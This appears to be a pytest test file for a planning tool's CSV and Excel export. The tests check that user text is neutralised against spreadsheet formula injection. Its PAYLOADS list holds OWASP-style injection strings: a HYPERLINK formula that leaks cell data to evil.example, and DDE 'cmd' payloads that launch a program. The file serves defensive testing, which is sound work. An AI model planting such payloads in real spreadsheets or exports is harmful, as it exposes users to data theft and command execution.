"""Exports of the approved plan (sopkit.export): safe to open in a spreadsheet."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import openpyxl
import pandas as pd
import pytest

from sopkit.errors import ParameterError, StoreError
from sopkit.export import approved_plan, export_plan, neutralise, spreadsheet_safe
from sopkit.store import open_store

CYCLE = "2026-11"
T0 = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)

# user text that a spreadsheet would run as a formula (OWASP CSV injection examples)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def tables():
    demand = pd.DataFrame({
        "sku": ["A", "-001", "B"],  # a SKU code that merely looks like a number
        "period": ["2026-11", "2026-11", "2026-12"],
        "qty_consensus": [10.5, -3.25, 0.0],  # genuine numbers, one negative
        "qty_stat": [9, 2, 1],
    })
    supply = pd.DataFrame({"sku": ["A"], "period": ["2026-11"], "qty_supply": [10.5],
                           "margin": [-1250.75]})
    decisions = pd.DataFrame({
        "decision": PAYLOADS,
        "recommendation": ["plain text", "a - b", "x", "=1", "ok", "ok"],
        "revenue_at_risk": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0],
    })
    return {"demand": demand, "supply": supply, "decisions": decisions}


@pytest.fixture
def store(tmp_path):
    with open_store(f"sqlite:///{tmp_path / 'plans.db'}") as opened:
        opened.record(CYCLE, tables(), data_fingerprint="f00d", run_stamp="r1", now=T0)
        yield opened


@pytest.fixture
def approved(store):
    store.approve(CYCLE, by="=Mallory", note="@SUM(1)", now=T0)
    return approved_plan(store, CYCLE)


def test_neutralise_rules():
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralise("plain") == "plain" and neutralise("a - b") == "a - b"
    assert neutralise(-3.25) == -3.25 and neutralise(None) is None
    frame = spreadsheet_safe(pd.DataFrame({"=col": ["=x", None], "n": [-1.5, 2.0]}))
    assert list(frame.columns) == ["'=col", "n"]
    assert frame["'=col"].iloc[0] == "'=x" and pd.isna(frame["'=col"].iloc[1])
    assert frame["n"].tolist() == [-1.5, 2.0]


def test_csv_export_neutralises_text_and_keeps_numbers(approved, tmp_path):
    paths = export_plan(approved, tmp_path / "plan.csv")
    assert [p.name for p in paths] == ["plan-demand.csv", "plan-supply.csv",
                                       "plan-decisions.csv", "plan-approval.csv"]
    with open(tmp_path / "plan-decisions.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["decision", "recommendation", "revenue_at_risk"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == ["plain text", "a - b", "x", "'=1", "ok", "ok"]
    assert [r[2] for r in rows[1:]] == ["-5.0", "1.0", "2.0", "3.0", "4.0", "5.0"]
    raw = (tmp_path / "plan-decisions.csv").read_bytes().decode("utf-8-sig")
    assert "\n=" not in raw and ",=" not in raw and ",-5.0\r\n" in raw  # no cell starts a formula
    with open(tmp_path / "plan-demand.csv", encoding="utf-8-sig", newline="") as handle:
        demand = list(csv.reader(handle))
    assert demand[2] == ["'-001", "2026-11", "-3.25", "2"]  # text quoted, the number not
    approval = dict(list(csv.reader(open(tmp_path / "plan-approval.csv",
                                         encoding="utf-8-sig", newline="")))[1:])
    assert approval["approved by"] == "'=Mallory" and approval["note"] == "'@SUM(1)"
    assert approval["approved at"] == "2026-11-20 09:00:00 UTC"
    assert approval["fingerprint of the numbers (SHA-256)"] == approved.version.content_fingerprint


def test_one_csv_table(approved, tmp_path):
    paths = export_plan(approved, tmp_path / "supply.csv", table="supply")
    assert paths == [tmp_path / "supply.csv"]
    text = (tmp_path / "supply.csv").read_bytes().decode("utf-8-sig")
    assert text == "sku,period,qty_supply,margin\r\nA,2026-11,10.5,-1250.75\r\n"


def test_excel_export_has_no_formula_and_real_numbers(approved, tmp_path):
    [path] = export_plan(approved, tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["plan of record", "demand", "supply", "decisions"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    decisions = book["decisions"]
    for number, payload in enumerate(PAYLOADS, start=2):
        cell = decisions.cell(row=number, column=1)
        # the text as entered (XML turns a CR into LF), a text cell with the quote-prefix mark
        assert (cell.value, cell.data_type, cell.quotePrefix) == (
            payload.replace("\r", "\n"), "s", True)
    assert decisions["B2"].quotePrefix is False  # plain text is left alone
    money = decisions["C2"]
    assert (money.value, money.data_type) == (-5.0, "n")
    demand = book["demand"]
    assert (demand["C3"].value, demand["C3"].data_type) == (-3.25, "n")
    assert (demand["A3"].value, demand["A3"].data_type, demand["A3"].quotePrefix) == (
        "-001", "s", True)
    cover = {row[0].value: row[1] for row in book["plan of record"].iter_rows(min_row=2)}
    assert cover["approved by"].value == "=Mallory" and cover["approved by"].quotePrefix
    assert cover["version"].value == 1


def test_only_approved_plans_are_exported(store, tmp_path):
    with pytest.raises(StoreError, match=r"cycle 2026-11 has no approved version; only approved "
                                         r"plans are exported"):
        approved_plan(store, CYCLE)
    store.approve(CYCLE, by="Ann", now=T0)
    store.record(CYCLE, tables(), now=T0)
    with pytest.raises(StoreError, match=r"version 2 of cycle 2026-11 is a draft"):
        approved_plan(store, CYCLE, 2)
    assert approved_plan(store, CYCLE).version.version == 1


@pytest.mark.parametrize("out, table, message", [
    ("plan.txt", None, r"name a \.csv or \.xlsx file"),
    ("missing/plan.csv", None, r"the folder .*missing does not exist"),
    ("plan.csv", "forecast", r"--table: one of demand, supply, decisions"),
])
def test_bad_export_requests(approved, tmp_path, out, table, message):
    with pytest.raises(ParameterError, match=message):
        export_plan(approved, tmp_path / out, table=table)


def test_export_never_replaces_a_file_unless_told(approved, tmp_path):
    actuals = tmp_path / "actuals.csv"
    actuals.write_text("sku,period,qty\nA,2026-10,5\n")
    with pytest.raises(ParameterError, match=r"actuals\.csv exists already; nothing was written"):
        export_plan(approved, actuals, table="demand")
    assert actuals.read_text() == "sku,period,qty\nA,2026-10,5\n"
    # all four CSVs are checked before any is written: one clash, none written
    (tmp_path / "plan-supply.csv").write_text("mine")
    with pytest.raises(ParameterError, match=r"plan-supply\.csv exists already"):
        export_plan(approved, tmp_path / "plan.csv")
    assert not (tmp_path / "plan-demand.csv").exists()
    assert (tmp_path / "plan-supply.csv").read_text() == "mine"
    # told to: replaced
    paths = export_plan(approved, tmp_path / "plan.csv", overwrite=True)
    assert len(paths) == 4 and (tmp_path / "plan-supply.csv").read_text() != "mine"
    [book] = export_plan(approved, tmp_path / "plan.xlsx")
    with pytest.raises(ParameterError, match=r"plan\.xlsx exists already.*--force to replace it"):
        export_plan(approved, book)
